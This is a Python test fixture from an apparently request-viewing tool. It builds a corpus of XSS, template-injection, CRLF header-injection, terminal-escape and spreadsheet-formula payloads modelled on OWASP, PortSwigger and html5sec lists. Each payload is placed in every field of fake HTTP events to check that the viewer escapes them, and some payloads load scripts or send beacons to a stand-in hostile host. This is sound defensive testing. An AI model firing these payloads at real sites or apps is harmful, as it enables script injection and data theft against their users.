"""Strings that would run a script or call home, if any of them were more than text to the page.

They follow the collections of OWASP's cheat sheets, of PortSwigger and of html5sec.org; each sets
`window.__pwn`, opens a dialog, or asks a host that is not ours.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator
from typing import Any

from viewer_kit.evil import NAME as EVIL
from viewer_kit.traffic import Event, an_event

RUN = "window.__pwn=1"

ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    f"<script src=//{EVIL}/x.js></script>",
    f"<script type=module>import '//{EVIL}/x.js'</script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=//{EVIL}/i.png>",
    f"<img srcset='//{EVIL}/i.png 2x'>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href='//{EVIL}/x.svg#x'/></svg>",
    f"<svg><image href='//{EVIL}/i.png'/></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<body onload={RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>",
    "<iframe srcdoc='<script>parent.__pwn=1</script>'></iframe>",
    f"<iframe src=//{EVIL}/></iframe>",
    f"<object data=//{EVIL}/x></object>",
    f"<embed src=//{EVIL}/x>",
    f"<video src=//{EVIL}/v onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<video><source onerror={RUN}></video>",
    f"<video poster=//{EVIL}/p.png></video>",
    f"<input autofocus onfocus={RUN}>",
    f"<input type=image src=//{EVIL}/i.png>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<button autofocus onfocus={RUN}>x</button>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href='//{EVIL}/' ping='//{EVIL}/p'>x</a>",
    f"<form action=javascript:{RUN}><button autofocus>x</button></form>",
    f"<form action=//{EVIL}/><input name=x></form>",
    f"<base href=//{EVIL}/>",
    f"<link rel=stylesheet href=//{EVIL}/s.css>",
    f"<link rel=preload as=image href=//{EVIL}/i.png>",
    f"<link rel=icon href=//{EVIL}/i.ico>",
    f"<style>@import '//{EVIL}/s.css';</style>",
    f"<style>*{{background:url(//{EVIL}/b.png)}}</style>",
    f"<p style='background:url(//{EVIL}/b.png)'>x</p>",
    f"<p style=animation-name:x onanimationstart={RUN}>x</p>",
    f"<table background=//{EVIL}/b.png><td>x</table>",
    f"<div onpointerover={RUN} onmouseover={RUN}>xxxxxxxx</div>",
    f"<x contenteditable autofocus onfocus={RUN} tabindex=1>x</x>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"<isindex type=image src=1 onerror={RUN}>",
    f"<dialog open onclose={RUN}><form method=dialog><button autofocus>x",
    f"<portal src=//{EVIL}/></portal>",
    "<img src=x onerror=alert(1)>",
    "<script>confirm(1)</script>",
    "<svg onload=prompt(1)>",
    f"<img src=x onerror=fetch('//{EVIL}/f')>",
    f"<script>navigator.sendBeacon('//{EVIL}/b')</script>",
    "<img src=x onerror=&#119;indow.__pwn=1>",
    "<img src=x onerror='window[\"__pwn\"]=1'>",
    f"<scr<script>ipt>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f"<img src=x\nonerror\n=\n{RUN}>",
    f"<img src=x onerror\x0c={RUN}>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml version=1?><img src=x onerror={RUN}>",
    f"\ufeff<script>{RUN}</script>",
    f"<a\u00a0href=x><img src=x onerror={RUN}>",
)

ESCAPES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript&colon;{RUN}",
    "data:text/html,<script>parent.__pwn=1</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd249MTwvc2NyaXB0Pg==",
    f"vbscript:{RUN}",
    f"//{EVIL}/",
    f"\\\\{EVIL}\\",
    f"https://{EVIL}/",
    f"url(//{EVIL}/b.png)",
    f"expression({RUN})",
    f"';{RUN};//",
    f'";{RUN};//',
    f"`;{RUN};//",
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"{{{{{RUN}}}}}",
    f"<%= {RUN} %>",
    f"#{{{RUN}}}",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\u2028{RUN}\u2029",
    "\u202e>tpircs/<1=nwp__.wodniw>tpircs<",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "toString",
    "innerHTML",
    "dangerouslySetInnerHTML",
    "</title><title>taken over</title>",
    "\x1b]0;taken over\x07",
    "\r\nSet-Cookie: taken=over",
    '=HYPERLINK("//evil.example")',
)

BEFORE = (
    '"', "'", "`", ">", '">', "'>", "-->", "]]>", "</script>", "</style>", "</title>",
    "</textarea>", "</noscript>", "</template>", "</svg>", "</select>", "</iframe>", "\\", "\\\"",
    "*/", "\u2028", "\u0000", "%00", "&quot;>", "\U0001f600",
)  # fmt: skip
"""What ends the place in which somebody may have put the text."""

WITHIN = (
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<script>{RUN}</script>",
    f" onmouseover={RUN} ",
    f" autofocus onfocus={RUN} x=",
    f"<img src=//{EVIL}/i.png>",
)

CORPUS = tuple(
    dict.fromkeys(
        [
            *ELEMENTS,
            *ESCAPES,
            *(before + each for before, each in itertools.product(BEFORE, WITHIN)),
        ]
    )
)

FIELDS = (
    "verb", "path", "query", "request header name", "request header value", "request body",
    "response header value", "response body", "user", "company", "session", "route", "exception",
    "address", "metadata", "id",
)  # fmt: skip


def hostile_event(text: str, number: int) -> Event:
    """Return the event of a call that has *text* in each of `FIELDS`."""
    own = {"route": text, "exception": text, "exception_message": text}
    event = an_event(
        ago=5 + number / 10,
        method=text,
        status=(200, 404, 500)[number % 3],
        request_body={text: text, "list": [text]},
        own=own,
        user_id=text,
        company_id=text,
        session_token=text,
        transaction_id=f"{number} {text}",
    )
    event["metadata"][text] = text
    event["request"] |= {"uri": f"http://hostile.example/{text}?{text}", "ip_address": text}
    event["request"]["headers"] |= {text: "name", "X-Value": text, "Cookie": f"a={text}"}
    event["response"]["headers"] |= {"X-Value": text, "Content-Type": "text/html"}
    event["response"]["body"] = text
    return event


def hostile_events() -> Iterator[dict[str, Any]]:
    """Yield an event for each string, the first string in the newest one."""
    for number, text in enumerate(CORPUS):
        yield hostile_event(text, number)
